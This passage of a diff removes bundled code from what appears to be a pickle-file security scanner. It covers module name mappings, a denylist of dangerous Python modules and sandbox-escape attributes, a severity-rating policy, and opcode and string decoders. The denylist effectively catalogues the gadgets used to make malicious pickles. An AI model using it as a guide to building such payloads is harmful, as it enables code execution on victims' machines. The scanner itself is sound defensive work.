-  ["_elementtree", "xml.etree.ElementTree"],
-  ["FileDialog", "tkinter.filedialog"],
-  ["SimpleDialog", "tkinter.simpledialog"],
-  ["DocXMLRPCServer", "xmlrpc.server"],
-  ["SimpleHTTPServer", "http.server"],
-  ["CGIHTTPServer", "http.server"],
-  ["UserDict", "collections"],
-  ["UserList", "collections"],
-  ["UserString", "collections"],
-  ["whichdb", "dbm"],
-  ["StringIO", "io"],
-  ["cStringIO", "io"]
-]);
-var NAME_MAPPING = /* @__PURE__ */ new Map([
-  ["__builtin__\0xrange", ["builtins", "range"]],
-  ["__builtin__\0reduce", ["functools", "reduce"]],
-  ["__builtin__\0intern", ["sys", "intern"]],
-  ["__builtin__\0unichr", ["builtins", "chr"]],
-  ["__builtin__\0unicode", ["builtins", "str"]],
-  ["__builtin__\0long", ["builtins", "int"]],
-  ["itertools\0izip", ["builtins", "zip"]],
-  ["itertools\0imap", ["builtins", "map"]],
-  ["itertools\0ifilter", ["builtins", "filter"]],
-  ["itertools\0ifilterfalse", ["itertools", "filterfalse"]],
-  ["itertools\0izip_longest", ["itertools", "zip_longest"]],
-  ["UserDict\0IterableUserDict", ["collections", "UserDict"]],
-  ["UserList\0UserList", ["collections", "UserList"]],
-  ["UserString\0UserString", ["collections", "UserString"]],
-  ["whichdb\0whichdb", ["dbm", "whichdb"]],
-  ["_socket\0fromfd", ["socket", "fromfd"]],
-  ["_multiprocessing\0Connection", ["multiprocessing.connection", "Connection"]],
-  ["multiprocessing.process\0Process", ["multiprocessing.context", "Process"]],
-  ["multiprocessing.forking\0Popen", ["multiprocessing.popen_fork", "Popen"]],
-  ["urllib\0ContentTooShortError", ["urllib.error", "ContentTooShortError"]],
-  ["urllib\0getproxies", ["urllib.request", "getproxies"]],
-  ["urllib\0pathname2url", ["urllib.request", "pathname2url"]],
-  ["urllib\0quote_plus", ["urllib.parse", "quote_plus"]],
-  ["urllib\0quote", ["urllib.parse", "quote"]],
-  ["urllib\0unquote_plus", ["urllib.parse", "unquote_plus"]],
-  ["urllib\0unquote", ["urllib.parse", "unquote"]],
-  ["urllib\0url2pathname", ["urllib.request", "url2pathname"]],
-  ["urllib\0urlcleanup", ["urllib.request", "urlcleanup"]],
-  ["urllib\0urlencode", ["urllib.parse", "urlencode"]],
-  ["urllib\0urlopen", ["urllib.request", "urlopen"]],
-  ["urllib\0urlretrieve", ["urllib.request", "urlretrieve"]],
-  ["urllib2\0HTTPError", ["urllib.error", "HTTPError"]],
-  ["urllib2\0URLError", ["urllib.error", "URLError"]],
-  ["exceptions\0ArithmeticError", ["builtins", "ArithmeticError"]],
-  ["exceptions\0AssertionError", ["builtins", "AssertionError"]],
-  ["exceptions\0AttributeError", ["builtins", "AttributeError"]],
-  ["exceptions\0BaseException", ["builtins", "BaseException"]],
-  ["exceptions\0BufferError", ["builtins", "BufferError"]],
-  ["exceptions\0BytesWarning", ["builtins", "BytesWarning"]],
-  ["exceptions\0DeprecationWarning", ["builtins", "DeprecationWarning"]],
-  ["exceptions\0EOFError", ["builtins", "EOFError"]],
-  ["exceptions\0EnvironmentError", ["builtins", "EnvironmentError"]],
-  ["exceptions\0Exception", ["builtins", "Exception"]],
-  ["exceptions\0FloatingPointError", ["builtins", "FloatingPointError"]],
-  ["exceptions\0FutureWarning", ["builtins", "FutureWarning"]],
-  ["exceptions\0GeneratorExit", ["builtins", "GeneratorExit"]],
-  ["exceptions\0IOError", ["builtins", "IOError"]],
-  ["exceptions\0ImportError", ["builtins", "ImportError"]],
-  ["exceptions\0ImportWarning", ["builtins", "ImportWarning"]],
-  ["exceptions\0IndentationError", ["builtins", "IndentationError"]],
-  ["exceptions\0IndexError", ["builtins", "IndexError"]],
-  ["exceptions\0KeyError", ["builtins", "KeyError"]],
-  ["exceptions\0KeyboardInterrupt", ["builtins", "KeyboardInterrupt"]],
-  ["exceptions\0LookupError", ["builtins", "LookupError"]],
-  ["exceptions\0MemoryError", ["builtins", "MemoryError"]],
-  ["exceptions\0NameError", ["builtins", "NameError"]],
-  ["exceptions\0NotImplementedError", ["builtins", "NotImplementedError"]],
-  ["exceptions\0OSError", ["builtins", "OSError"]],
-  ["exceptions\0OverflowError", ["builtins", "OverflowError"]],
-  ["exceptions\0PendingDeprecationWarning", ["builtins", "PendingDeprecationWarning"]],
-  ["exceptions\0ReferenceError", ["builtins", "ReferenceError"]],
-  ["exceptions\0RuntimeError", ["builtins", "RuntimeError"]],
-  ["exceptions\0RuntimeWarning", ["builtins", "RuntimeWarning"]],
-  ["exceptions\0StopIteration", ["builtins", "StopIteration"]],
-  ["exceptions\0SyntaxError", ["builtins", "SyntaxError"]],
-  ["exceptions\0SyntaxWarning", ["builtins", "SyntaxWarning"]],
-  ["exceptions\0SystemError", ["builtins", "SystemError"]],
-  ["exceptions\0SystemExit", ["builtins", "SystemExit"]],
-  ["exceptions\0TabError", ["builtins", "TabError"]],
-  ["exceptions\0TypeError", ["builtins", "TypeError"]],
-  ["exceptions\0UnboundLocalError", ["builtins", "UnboundLocalError"]],
-  ["exceptions\0UnicodeDecodeError", ["builtins", "UnicodeDecodeError"]],
-  ["exceptions\0UnicodeEncodeError", ["builtins", "UnicodeEncodeError"]],
-  ["exceptions\0UnicodeError", ["builtins", "UnicodeError"]],
-  ["exceptions\0UnicodeTranslateError", ["builtins", "UnicodeTranslateError"]],
-  ["exceptions\0UnicodeWarning", ["builtins", "UnicodeWarning"]],
-  ["exceptions\0UserWarning", ["builtins", "UserWarning"]],
-  ["exceptions\0ValueError", ["builtins", "ValueError"]],
-  ["exceptions\0Warning", ["builtins", "Warning"]],
-  ["exceptions\0ZeroDivisionError", ["builtins", "ZeroDivisionError"]],
-  ["multiprocessing\0AuthenticationError", ["multiprocessing.context", "AuthenticationError"]],
-  ["multiprocessing\0BufferTooShort", ["multiprocessing.context", "BufferTooShort"]],
-  ["multiprocessing\0ProcessError", ["multiprocessing.context", "ProcessError"]],
-  ["multiprocessing\0TimeoutError", ["multiprocessing.context", "TimeoutError"]],
-  ["__builtin__\0basestring", ["builtins", "str"]],
-  ["exceptions\0StandardError", ["builtins", "Exception"]],
-  ["UserDict\0UserDict", ["collections", "UserDict"]],
-  ["socket\0_socketobject", ["socket", "SocketType"]]
-]);
-
-// src/artifacts/pickle/denylist.ts
-var CMD = "runs shell commands or programs";
-var CODE = "evaluates or compiles arbitrary Python code";
-var ATTR = "reaches arbitrary attributes (gadget for calling anything)";
-var IMPORT = "imports arbitrary modules";
-var LOADS = "deserializes nested data (nested pickle or unsafe loader)";
-var NET = "performs network access";
-var FILE = "reads, writes or deletes files";
-var DEBUG = "debugger/profiler/REPL entry point that runs code";
-var NATIVE = "loads native code or manipulates memory";
-var INSTALL = "installs packages or runs build scripts";
-var PROC = "spawns processes, threads or signal handlers";
-function group(reason2, names) {
-  return names.map((name2) => ({ name: name2, reason: reason2 }));
-}
-var DENYLIST = [
-  ...group(CMD, [
-    "os",
-    "posix",
-    "nt",
-    "subprocess",
-    "commands",
-    "popen2",
-    "pty",
-    "_posixsubprocess",
-    "asyncio.subprocess",
-    "asyncio.create_subprocess_exec",
-    "asyncio.create_subprocess_shell",
-    "asyncio.base_events",
-    "asyncio.unix_events",
-    "asyncio.windows_events",
-    "platform.popen",
-    "pexpect",
-    "sh",
-    "plumbum",
-    "fabric",
-    "paramiko",
-    "invoke",
-    "uuid._get_command_stdout"
-  ]),
-  ...group(CODE, [
-    "builtins.eval",
-    "builtins.exec",
-    "builtins.compile",
-    "builtins.execfile",
-    "builtins.apply",
-    "builtins.breakpoint",
-    "builtins.input",
-    "builtins.raw_input",
-    "builtins.help",
-    "builtins.exit",
-    "builtins.quit",
-    "code",
-    "codeop",
-    "runpy",
-    "types.CodeType",
-    "types.FunctionType",
-    "types.LambdaType",
-    "types.MethodType",
-    "types.ModuleType",
-    "marshal",
-    "timeit",
-    "doctest",
-    "pydoc",
-    "pydoc_data",
-    "idlelib",
-    "lib2to3",
-    "numpy.testing._private.utils.runstring",
-    "numpy.f2py",
-    "numpy.distutils",
-    "IPython",
-    "jinja2",
-    "torch._inductor",
-    "torch.jit",
-    "torch.package",
-    "torch.utils.cpp_extension",
-    "torch._dynamo",
-    "torch.fx.experimental.symbolic_shapes",
-    "torch.compile",
-    "torch._C._jit_script_compile",
-    "torch.testing._internal",
-    "keras.layers.Lambda",
-    "tensorflow.keras.layers.Lambda",
-    "tf_keras.layers.Lambda",
-    "tensorflow.python.ops.script_ops",
-    "tensorflow.io",
-    "tensorflow.compat.v1.py_func",
-    "tensorflow.py_function",
-    "tensorflow.numpy_function",
-    "dill._dill._create_function",
-    "dill._dill._create_code",
-    "dill._dill._load_type",
-    "dill.source",
-    "cloudpickle.cloudpickle._make_function",
-    "cloudpickle.cloudpickle._builtin_type",
-    "cloudpickle.cloudpickle_fast",
-    "sympy.parsing",
-    "sympy.sympify",
-    "pandas.eval",
-    "pandas.core.computation",
-    "numexpr"
-  ]),
-  ...group(ATTR, [
-    "builtins.getattr",
-    "builtins.setattr",
-    "builtins.delattr",
-    "builtins.globals",
-    "builtins.locals",
-    "builtins.vars",
-    "builtins.__builtins__",
-    "builtins.__loader__",
-    "operator.attrgetter",
-    "operator.methodcaller",
-    "operator.getitem",
-    "operator.setitem",
-    "operator.delitem",
-    "operator.call",
-    "_operator.attrgetter",
-    "_operator.methodcaller",
-    "_operator.getitem",
-    "functools.partial",
-    "functools.reduce",
-    "functools.partialmethod",
-    "functools.singledispatch",
-    "functools.update_wrapper",
-    "_functools",
-    "inspect",
-    "gc",
-    "sys",
-    "copyreg.add_extension",
-    "copyreg.constructor",
-    "copyreg.pickle",
-    "_thread",
-    "site"
-  ]),
-  ...group(IMPORT, [
-    "importlib",
-    "builtins.__import__",
-    "imp",
-    "pkgutil",
-    "zipimport",
-    "modulefinder",
-    "builtins.__build_class__",
-    "_imp",
-    "_frozen_importlib",
-    "_frozen_importlib_external"
-  ]),
-  ...group(LOADS, [
-    "pickle",
-    "_pickle",
-    "cPickle",
-    "pickletools",
-    "dill",
-    "cloudpickle",
-    "jsonpickle",
-    "shelve",
-    // joblib's array wrappers (NumpyArrayWrapper, NDArrayWrapper) are plain data; its loaders and workers are not.
-    "joblib.load",
-    "joblib.numpy_pickle.load",
-    "joblib.numpy_pickle._unpickle",
-    "joblib.numpy_pickle.NumpyUnpickler",
-    "joblib.numpy_pickle_compat.load_compatibility",
-    "joblib.memory",
-    "joblib.Memory",
-    "joblib.parallel",
-    "joblib.Parallel",
-    "joblib.delayed",
-    "joblib._parallel_backends",
-    "joblib.pool",
-    "joblib._store_backends",
-    "joblib.externals",
-    "joblib.func_inspect",
-    "joblib.hashing",
-    "dbm",
-    "torch.load",
-    "torch.serialization",
-    "torch.storage._load_from_bytes",
-    "torch._weights_only_unpickler",
-    "torch.hub",
-    "torch.utils.model_zoo",
-    "torch.distributed.rpc",
-    "torch.multiprocessing",
-    "numpy.load",
-    "numpy.lib.npyio",
-    "numpy.lib.format.read_array",
-    "numpy.loads",
-    "numpy.core.numeric.loads",
-    "numpy.ma.core.loads",
-    "pandas.read_pickle",
-    "pandas.io.pickle",
-    "pandas.compat.pickle_compat",
-    "yaml.load",
-    "yaml.load_all",
-    "yaml.unsafe_load",
-    "yaml.unsafe_load_all",
-    "yaml.full_load",
-    "yaml.full_load_all",
-    "yaml.UnsafeLoader",
-    "yaml.Loader",
-    "yaml.FullLoader",
-    "ruamel.yaml",
-    "xmlrpc",
-    "xmlrpclib",
-    "sklearn.externals.joblib",
-    "keras.models.load_model",
-    "keras.saving",
-    "tensorflow.keras.models.load_model",
-    "skops.io.load",
-    "hydra.utils.instantiate"
-  ]),
-  ...group(NET, [
-    "socket",
-    "_socket",
-    "socketserver",
-    "ssl",
-    "requests",
-    "httpx",
-    "aiohttp",
-    "urllib3",
-    "urllib.request",
-    "urllib2",
-    "urllib.urlopen",
-    "urllib.urlretrieve",
-    "httplib",
-    "http.client",
-    "http.server",
-    "ftplib",
-    "smtplib",
-    "poplib",
-    "imaplib",
-    "nntplib",
-    "telnetlib",
-    "webbrowser",
-    "asyncio.open_connection",
-    "asyncio.start_server",
-    "asyncio.streams",
-    "wsgiref"
-  ]),
-  ...group(FILE, [
-    "builtins.open",
-    "builtins.file",
-    "io.open",
-    "io.open_code",
-    "io.FileIO",
-    "io.TextIOWrapper",
-    "io.BufferedReader",
-    "io.BufferedWriter",
-    "io.BufferedRandom",
-    "_io",
-    "codecs.open",
-    "codecs.StreamReaderWriter",
-    "shutil",
-    "tempfile",
-    "fileinput",
-    "zipfile",
-    "tarfile",
-    "gzip.open",
-    "bz2.open",
-    "lzma.open",
-    "mmap",
-    "fcntl",
-    "numpy.save",
-    "numpy.savetxt",
-    "numpy.fromfile",
-    "numpy.memmap",
-    "numpy.ndarray.tofile",
-    "torch.save",
-    "logging.FileHandler",
-    "logging.config"
-  ]),
-  ...group(DEBUG, [
-    "pdb",
-    "bdb",
-    "trace",
-    "cProfile",
-    "profile",
-    "pstats",
-    "tracemalloc",
-    "faulthandler",
-    "rlcompleter",
-    "readline",
-    "cmd",
-    "atexit"
-  ]),
-  ...group(NATIVE, [
-    "ctypes",
-    "_ctypes",
-    "cffi",
-    "numpy.ctypeslib",
-    "torch.ops.load_library",
-    "torch.classes.load_library",
-    "torch.library",
-    "torch.cuda._utils",
-    "resource"
-  ]),
-  ...group(INSTALL, [
-    "pip",
-    "setuptools",
-    "distutils",
-    "ensurepip",
-    "venv",
-    "virtualenv",
-    "pkg_resources",
-    "conda"
-  ]),
-  ...group(PROC, [
-    "multiprocessing",
-    "_multiprocessing",
-    "concurrent.futures",
-    "threading",
-    "signal",
-    "_signal",
-    "asyncio.run",
-    "asyncio.get_event_loop",
-    "sched"
-  ])
-];
-var DANGEROUS_ATTRIBUTES = /* @__PURE__ */ new Set([
-  "__globals__",
-  "__builtins__",
-  "__subclasses__",
-  "__code__",
-  "__closure__",
-  "__func__",
-  "__self__",
-  "__getattribute__",
-  "__getattr__",
-  "__setattr__",
-  "__delattr__",
-  "__import__",
-  "__loader__",
-  "__spec__",
-  "__reduce__",
-  "__reduce_ex__",
-  "__class__",
-  "__base__",
-  "__bases__",
-  "__mro__",
-  "__dict__",
-  "__init_subclass__",
-  "__call__",
-  "f_globals",
-  "f_locals",
-  "f_builtins",
-  "gi_frame",
-  "tb_frame",
-  "co_code"
-]);
-var MODULE_ATTRIBUTES = /* @__PURE__ */ new Set([
-  "os",
-  "posix",
-  "nt",
-  "subprocess",
-  "sys",
-  "builtins",
-  "importlib",
-  "ctypes",
-  "pickle",
-  "_pickle",
-  "marshal",
-  "shutil",
-  "socket",
-  "pty",
-  "runpy",
-  "multiprocessing"
-]);
-var BUILTINS_ALIASES = /* @__PURE__ */ new Set(["builtins", "__builtin__", "__builtins__"]);
-
-// src/artifacts/pickle/names.ts
-var MAX_PARTS = 32;
-function normalizeGlobal(module2, name2, protocol) {
-  let m = module2;
-  let n = name2;
-  if (protocol < 3) {
-    const mapped = NAME_MAPPING.get(`${m}\0${n}`);
-    if (mapped !== void 0) {
-      m = mapped[0];
-      n = mapped[1];
-    } else {
-      m = IMPORT_MAPPING.get(m) ?? m;
-    }
-  }
-  if (BUILTINS_ALIASES.has(m)) m = "builtins";
-  return { module: m, name: n, qualified: `${m}.${n}` };
-}
-var DENY_REASONS = new Map(DENYLIST.map((e) => [e.name, e.reason]));
-function lookupChain(parts2, from, to) {
-  let chain = BUILTINS_ALIASES.has(parts2[from]) ? "builtins" : parts2[from];
-  for (let i2 = from; i2 <= to; i2++) {
-    if (i2 > from) chain += "." + parts2[i2];
-    const reason2 = DENY_REASONS.get(chain);
-    if (reason2 !== void 0) return { entry: chain, reason: reason2 };
-  }
-  return void 0;
-}
-function matchDenylist(module2, name2) {
-  const moduleParts = module2.split(".");
-  const nameParts = name2.split(".");
-  const parts2 = moduleParts.concat(nameParts).slice(0, MAX_PARTS);
-  const fromRoot = lookupChain(parts2, 0, parts2.length - 1);
-  if (fromRoot !== void 0) return fromRoot;
-  const firstNamePart = moduleParts.length;
-  for (let j = firstNamePart; j < parts2.length; j++) {
-    if (DANGEROUS_ATTRIBUTES.has(parts2[j])) {
-      return { entry: parts2[j], reason: "traverses interpreter internals (sandbox-escape gadget)" };
-    }
-  }
-  for (let j = firstNamePart; j < parts2.length - 1; j++) {
-    const inner = lookupChain(parts2, j, parts2.length - 1);
-    if (inner !== void 0) return inner;
-  }
-  const last = parts2[parts2.length - 1];
-  if (parts2.length > firstNamePart && MODULE_ATTRIBUTES.has(last)) {
-    return lookupChain(parts2, parts2.length - 1, parts2.length - 1) ?? { entry: last, reason: "reaches a dangerous module" };
-  }
-  return void 0;
-}
-var GlobalSet = class {
-  exact = /* @__PURE__ */ new Set();
-  prefixes = [];
-  constructor(entries) {
-    for (const e of entries) {
-      if (e.endsWith(".*")) this.prefixes.push(e.slice(0, -1));
-      else this.exact.add(e);
-    }
-  }
-  has(qualified) {
-    if (this.exact.has(qualified)) return true;
-    for (const p of this.prefixes) if (qualified.startsWith(p)) return true;
-    return false;
-  }
-};
-
-// src/artifacts/pickle/policy.ts
-var SEVERITY_RANK = { critical: 4, high: 3, medium: 2, low: 1 };
-var MAX_ISSUES = 1e3;
-var CLASS_ARG_HELPERS = ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS;
-var allowCache = /* @__PURE__ */ new WeakMap();
-function allowSet(extra) {
-  let set = allowCache.get(extra);
-  if (set === void 0) {
-    set = new GlobalSet([...ALLOWLIST, ...extra]);
-    allowCache.set(extra, set);
-  }
-  return set;
-}
-function maxSeverity(issues) {
-  let best;
-  for (const i2 of issues) if (best === void 0 || SEVERITY_RANK[i2.severity] > SEVERITY_RANK[best]) best = i2.severity;
-  return best;
-}
-function judge(trace, options) {
-  const a = trace.analysis;
-  const issues = [];
-  const add = (issue) => {
-    if (issues.length < MAX_ISSUES) issues.push(issue);
-  };
-  const allowlist = options.policy === "allowlist" ? allowSet(options.allowGlobals) : void 0;
-  const deny = [];
-  const reportedUnknown = /* @__PURE__ */ new Set();
-  for (let i2 = 0; i2 < a.imports.length; i2++) {
-    const imp = a.imports[i2];
-    deny.push(void 0);
-    if (imp.dynamic) {
-      add({
-        kind: "dynamic-global",
-        severity: "critical",
-        message: `STACK_GLOBAL with non-constant operands (${imp.module}, ${imp.name}): the imported name is computed at load time`,
-        offset: imp.offset
-      });
-      continue;
-    }
-    if (imp.opcode.startsWith("EXT")) {
-      add({
-        kind: "extension-code",
-        severity: "critical",
-        message: `${imp.opcode} ${imp.name} imports whatever the copyreg extension registry maps that code to`,
-        offset: imp.offset
-      });
-      continue;
-    }
-    const [module2, name2] = trace.importNormalized[i2];
-    const match = matchDenylist(imp.module, imp.name) ?? matchDenylist(module2, name2);
-    deny[i2] = match;
-    if (match !== void 0) {
-      const used = trace.importUsedAt[i2] >= 0 || trace.argScanExhausted;
-      if (!used) {
-        add({
-          kind: "dangerous-import",
-          severity: "high",
-          message: `Imports ${imp.normalized} (${match.reason}) via ${imp.opcode}`,
-          global: imp.normalized,
-          offset: imp.offset
-        });
-      } else if (trace.importCalledAt[i2] < 0) {
-        add({
-          kind: "dangerous-call",
-          severity: "critical",
-          message: `Passes ${imp.normalized} (${match.reason}) into a call that may invoke it`,
-          global: imp.normalized,
-          offset: trace.importUsedAt[i2] >= 0 ? trace.importUsedAt[i2] : imp.offset
-        });
-      }
-    } else if (allowlist !== void 0 && !allowlist.has(imp.normalized) && !reportedUnknown.has(imp.normalized)) {
-      reportedUnknown.add(imp.normalized);
-      add({
-        kind: "unknown-global",
-        severity: "medium",
-        message: `Imports ${imp.normalized}, which is not on the allowlist`,
-        global: imp.normalized,
-        offset: imp.offset
-      });
-    }
-  }
-  for (let c = 0; c < a.calls.length; c++) {
-    const call = a.calls[c];
-    if (call.opcode === "BUILD") continue;
-    const imp = trace.callCallee[c];
-    const match = imp >= 0 ? deny[imp] : void 0;
-    if (match !== void 0) {
-      add({
-        kind: "dangerous-call",
-        severity: "critical",
-        message: `Calls ${call.callee}(${call.args}) via ${call.opcode}: ${match.reason}`,
-        global: call.callee,
-        offset: call.offset
-      });
-    } else if (allowlist !== void 0 && imp < 0) {
-      add({
-        kind: "unknown-global",
-        severity: "medium",
-        message: `${call.opcode} calls a value that is not an allowlisted global`,
-        offset: call.offset
-      });
-    }
-  }
-  for (const m of trace.mutations) {
-    const imp = a.imports[m.imp];
-    add({
-      kind: "module-mutation",
-      severity: "critical",
-      message: `BUILD sets attributes on the module/class/function ${imp.normalized} itself`,
-      global: imp.normalized,
-      offset: m.offset
-    });
-  }
-  if (allowlist !== void 0) {
-    for (const u of trace.unsafeClassArgs) {
-      add({
-        kind: "unknown-global",
-        severity: "medium",
-        message: `${u.callee} is called with a class argument that is not a plain global`,
-        global: u.callee,
-        offset: u.offset
-      });
-    }
-  }
-  for (const n of a.nested) {
-    const severity = maxSeverity(n.analysis.issues);
-    if (severity !== void 0) {
-      add({
-        kind: "nested-pickle",
-        severity,
-        message: `A pickle embedded in a loads-like call argument is dangerous: ${n.analysis.issues[0].message}`,
-        global: n.analysis.issues[0].global,
-        offset: n.offset
-      });
-    }
-  }
-  if (trace.stoppedBy === "limit" && a.imports.length === 0) {
-    add({
-      kind: "uninspectable",
-      severity: "medium",
-      message: `Analysis stopped at a limit (${a.error?.message ?? "limit reached"}); the rest of the pickle was not inspected`,
-      offset: a.error?.offset
-    });
-  }
-  if (a.error !== void 0 && a.imports.length > 0) {
-    add({
-      kind: "malformed",
-      severity: "high",
-      message: `The pickle is malformed after referencing globals (${a.error.message}); loaders may still run what comes before the error`,
-      offset: a.error.offset
-    });
-  }
-  return issues;
-}
-
-// src/artifacts/pickle/opcodes.ts
-var OP = {
-  MARK: 40,
-  // (
-  STOP: 46,
-  // .
-  POP: 48,
-  // 0
-  POP_MARK: 49,
-  // 1
-  DUP: 50,
-  // 2
-  FLOAT: 70,
-  // F
-  INT: 73,
-  // I
-  BININT: 74,
-  // J
-  BININT1: 75,
-  // K
-  LONG: 76,
-  // L
-  BININT2: 77,
-  // M
-  NONE: 78,
-  // N
-  PERSID: 80,
-  // P
-  BINPERSID: 81,
-  // Q
-  REDUCE: 82,
-  // R
-  STRING: 83,
-  // S
-  BINSTRING: 84,
-  // T
-  SHORT_BINSTRING: 85,
-  // U
-  UNICODE: 86,
-  // V
-  BINUNICODE: 88,
-  // X
-  APPEND: 97,
-  // a
-  BUILD: 98,
-  // b
-  GLOBAL: 99,
-  // c
-  DICT: 100,
-  // d
-  EMPTY_DICT: 125,
-  // }
-  APPENDS: 101,
-  // e
-  GET: 103,
-  // g
-  BINGET: 104,
-  // h
-  INST: 105,
-  // i
-  LONG_BINGET: 106,
-  // j
-  LIST: 108,
-  // l
-  EMPTY_LIST: 93,
-  // ]
-  OBJ: 111,
-  // o
-  PUT: 112,
-  // p
-  BINPUT: 113,
-  // q
-  LONG_BINPUT: 114,
-  // r
-  SETITEM: 115,
-  // s
-  TUPLE: 116,
-  // t
-  EMPTY_TUPLE: 41,
-  // )
-  SETITEMS: 117,
-  // u
-  BINFLOAT: 71,
-  // G
-  // protocol 2
-  PROTO: 128,
-  NEWOBJ: 129,
-  EXT1: 130,
-  EXT2: 131,
-  EXT4: 132,
-  TUPLE1: 133,
-  TUPLE2: 134,
-  TUPLE3: 135,
-  NEWTRUE: 136,
-  NEWFALSE: 137,
-  LONG1: 138,
-  LONG4: 139,
-  // protocol 3
-  BINBYTES: 66,
-  // B
-  SHORT_BINBYTES: 67,
-  // C
-  // protocol 4
-  SHORT_BINUNICODE: 140,
-  BINUNICODE8: 141,
-  BINBYTES8: 142,
-  EMPTY_SET: 143,
-  ADDITEMS: 144,
-  FROZENSET: 145,
-  NEWOBJ_EX: 146,
-  STACK_GLOBAL: 147,
-  MEMOIZE: 148,
-  FRAME: 149,
-  // protocol 5
-  BYTEARRAY8: 150,
-  NEXT_BUFFER: 151,
-  READONLY_BUFFER: 152
-};
-var OPCODE_NAMES = (() => {
-  const names = new Array(256).fill(void 0);
-  for (const [name2, code3] of Object.entries(OP)) names[code3] = name2;
-  return names;
-})();
-var HIGHEST_PROTOCOL = 5;
-
-// src/artifacts/pickle/decode.ts
-function latin12(bytes) {
-  let out2 = "";
-  const CHUNK = 8192;
-  for (let i2 = 0; i2 < bytes.length; i2 += CHUNK) {
-    out2 += String.fromCharCode.apply(null, bytes.subarray(i2, i2 + CHUNK));
-  }
-  return out2;
-}
-function digitValue(c) {
-  if (c >= 48 && c <= 57) return c - 48;
-  if (c >= 97 && c <= 122) return c - 87;
-  if (c >= 65 && c <= 90) return c - 55;
-  return 99;
-}
-function isSpace(c) {
-  return c === 32 || c >= 9 && c <= 13;
-}
-function parsePythonInt(text) {
-  let i2 = 0;
-  let end = text.length;
-  while (i2 < end && isSpace(text.charCodeAt(i2))) i2++;
-  while (end > i2 && isSpace(text.charCodeAt(end - 1))) end--;
-  let negative = false;
-  const sign = text.charCodeAt(i2);
-  if (sign === 43 || sign === 45) {
-    negative = sign === 45;
-    i2++;
-  }
-  let base = 10;
-  if (end - i2 > 2 && text.charCodeAt(i2) === 48) {
-    const p = text.charCodeAt(i2 + 1) | 32;
-    if (p === 120) base = 16;
-    else if (p === 111) base = 8;
-    else if (p === 98) base = 2;
-    if (base !== 10) {
-      i2 += 2;
-      if (text.charCodeAt(i2) === 95) i2++;
-    }
-  }
-  if (i2 >= end) return null;
-  let small = 0;
-  let big = null;
-  let prevUnderscore = true;
-  for (; i2 < end; i2++) {
-    const c = text.charCodeAt(i2);
-    if (c === 95) {
-      if (prevUnderscore) return null;
-      prevUnderscore = true;
-      continue;
-    }
-    const d = digitValue(c);
-    if (d >= base) return null;
-    prevUnderscore = false;
-    if (big === null) {
-      small = small * base + d;
-      if (small > Number.MAX_SAFE_INTEGER / 64) big = BigInt(small);
-    } else {
-      big = big * BigInt(base) + BigInt(d);
-    }
-  }
-  if (prevUnderscore) return null;
-  if (big === null) return negative ? -small : small;
-  const v = negative ? -big : big;
-  const n = Number(v);
-  return Number.isSafeInteger(n) ? n : v;
-}
-function parsePythonFloat(text) {
-  const t = text.trim().replace(/_/g, "").toLowerCase();
-  const body2 = t.startsWith("-") || t.startsWith("+") ? t.slice(1) : t;
-  const negative = t.startsWith("-");
-  if (body2 === "inf" || body2 === "infinity") return negative ? -Infinity : Infinity;
-  if (body2 === "nan") return NaN;
-  if (!/^(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/.test(body2)) return null;
-  const v = Number(body2);
-  return negative ? -v : v;
-}
-var SIMPLE_ESCAPES2 = {
-  92: 92,
-  39: 39,
-  34: 34,
-  97: 7,
-  98: 8,
-  102: 12,
-  110: 10,
-  114: 13,
-  116: 9,
-  118: 11
-};
-function decodeEscapedString(src) {
-  const out2 = new Uint8Array(src.length);
-  let n = 0;
-  for (let i2 = 0; i2 < src.length; i2++) {
-    const c = src[i2];
-    if (c !== 92) {
-      out2[n++] = c;
-      continue;
-    }
-    if (i2 + 1 >= src.length) return null;
-    const e = src[++i2];
-    const simple = SIMPLE_ESCAPES2[e];
-    if (simple !== void 0) {
-      out2[n++] = simple;
-    } else if (e === 10) {
-    } else if (e === 120) {
-      const hi = i2 + 1 < src.length ? digitValue(src[i2 + 1]) : 99;
-      const lo = i2 + 2 < src.length ? digitValue(src[i2 + 2]) : 99;
-      if (hi > 15 || lo > 15) return null;
-      out2[n++] = hi * 16 + lo;
-      i2 += 2;
-    } else if (e >= 48 && e <= 55) {
-      let v = e - 48;
-      for (let k = 0; k < 2 && i2 + 1 < src.length && src[i2 + 1] >= 48 && src[i2 + 1] <= 55; k++) {
-        v = v * 8 + (src[++i2] - 48);
-      }
-      out2[n++] = v & 255;
-    } else {
-      out2[n++] = 92;
-      out2[n++] = e;
-    }
-  }
-  return out2.subarray(0, n);
-}
-function decodeRawUnicodeEscape(src) {
-  let out2 = "";
-  let runStart = 0;
-  for (let i2 = 0; i2 < src.length; i2++) {
-    if (src[i2] !== 92 || i2 + 1 >= src.length) continue;
-    const kind = src[i2 + 1];
-    if (kind !== 117 && kind !== 85) continue;
-    let slashes = 0;
-    for (let j = i2; j >= runStart && src[j] === 92; j--) slashes++;
-    if (slashes % 2 === 0) continue;
-    const width = kind === 117 ? 4 : 8;
-    let cp = 0;
-    for (let k = 0; k < width; k++) {
-      const d = i2 + 2 + k < src.length ? digitValue(src[i2 + 2 + k]) : 99;
-      if (d > 15) return null;
-      cp = cp * 16 + d;
-    }
-    if (cp > 1114111) return null;
-    out2 += latin12(src.subarray(runStart, i2)) + String.fromCodePoint(cp);
-    i2 += 1 + width;
-    runStart = i2 + 1;
-  }
-  return out2 + latin12(src.subarray(runStart));
-}
-
-// src/artifacts/pickle/render.ts
-var MAX_DEPTH2 = 5;
-var MAX_ITEMS = 10;
-var MAX_TEXT = 60;
-var BUDGET = 400;
-function renderValue(v, names, budget = BUDGET) {
-  return render(v, names, 0, { left: budget });
-}
-function renderArgs(v, names) {
-  const b = { left: BUDGET };
-  if (v.k === "tuple") return renderItems(v.items, names, 0, b);
-  return "*" + render(v, names, 0, b);
-}
-function renderKwargs(v, names) {
-  const b = { left: BUDGET };
-  if (v.k !== "dict") return "**" + render(v, names, 0, b);
-  const parts2 = [];
-  for (let i2 = 0; i2 + 1 < v.items.length; i2 += 2) {
-    const key = v.items[i2];
-    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
-      parts2.push("...");
-      break;
-    }
-    const value = render(v.items[i2 + 1], names, 1, b);
-    parts2.push(key.k === "str" && isIdentifier(key.v) ? `${key.v}=${value}` : `**{${render(key, names, 1, b)}: ${value}}`);
-  }
-  return parts2.join(", ");
-}
-function render(v, names, depth, b) {
-  const out2 = renderRaw(v, names, depth, b);
